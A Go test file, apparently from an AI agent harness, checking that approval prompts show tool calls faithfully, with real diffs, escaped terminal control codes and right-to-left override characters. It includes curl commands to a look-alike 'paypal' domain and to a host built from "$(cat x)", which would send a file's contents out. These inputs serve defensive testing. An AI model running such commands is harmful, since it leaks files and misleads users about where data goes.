package harness

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rein/event"
	"rein/guard"
	"rein/kit/workspace"
	"rein/tool"
)

func TestQuestionsShowTheRealDiff(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "f"), []byte("if x {\n\told()\n}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	ws, err := workspace.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	w := inWorkspace(&Harness{}, ws)
	ask := func(name, args string) string {
		c := guard.Case{Call: tool.Call{Name: name, Args: json.RawMessage(args)}}
		return strings.Join(w.approvals.request(c, guard.Verdict{Reason: "it changes a file"}).Lines, "\n")
	}
	want := "edit_file\n  change f (+1 -1 lines)\n  @@ -1,3 +1,3 @@\n   if x {\n  -    old()\n  +    new()\n   }\n  because  it changes a file"
	if got := ask("edit_file", `{"path":"f","old_text":"    old()","new_text":"    new()"}`); got != want {
		t.Errorf("got %s", got)
	}
	for args, want := range map[string]string{
		`edit_file {"path":"f","old_text":"gone"}`:                     "edit_file\n  path     \"f\"\n  old_text \"gone\"\n",
		`bash {"command":"ls"}`:                                        "bash\n  command  \"ls\"\n",
		`other {"a":[1, {"b":"\u001b[2J"}],"text":"one\ntwo\u202e\n"}`: "other\n  a        [1, {\"b\":\"\\u001b[2J\"}]\n  text\n    | one\n    | two\\u{202e}\n  because",
		`other {"text":"one\ntwo"}`:                                    "    | two\n    (without a line break at its end)\n",
		`other [1,2]`:                                                  "other\n  [1,2]\n",
		`other {"a":1,"a":2}`:                                          "  a        1\n  a        2\n",
		`other {"a":`:                                                  "other\n  {\"a\":\n",
		`edit_file {"path":"f","old_text":"\told()","new_text":"    old()"}`: "\n  -\\told()\n  +    old()\n",
	} {
		name, args, _ := strings.Cut(args, " ")
		if got := ask(name, args); !strings.Contains(got, want) {
			t.Errorf("%s %s: shown as %s", name, args, got)
		}
	}
	long := `{"path":"n","content":"` + strings.Repeat(`x\n`, 900) + `"}`
	if got := ask("write_file", long); strings.Count(got, "\n    | x") != 900 || !strings.Contains(got, "create n (+900 -0 lines)") {
		t.Errorf("what is cut is shown by its arguments, too: %.200s", got)
	}
}

// A host whose letters look like those of another is shown as programs ask for it.
func TestAHostInLookAlikeLetters(t *testing.T) {
	var got []string
	person := funcPerson(func(_ context.Context, r *Request) (guard.Answer, error) {
		for _, c := range r.Shown.Contacts {
			got = append(got, c.String())
		}
		return r.Claim(guard.Answer{By: guard.ByPerson("")})
	})
	s := startCalls(t, Options{Dir: t.TempDir(), Terms: event.Terms{Sandbox: "off"}, Person: person})
	callText(t, s, "1", "bash", `{"command":"curl https://p\u0430ypal.com/x; curl https://Example.com; curl https://\"$(cat x)\".example.com"}`)
	if want := "xn--pypal-4ve.com:443/x example.com:443 ….example.com:443"; strings.Join(got, " ") != want {
		t.Errorf("got %q, want %s", got, want)
	}
}
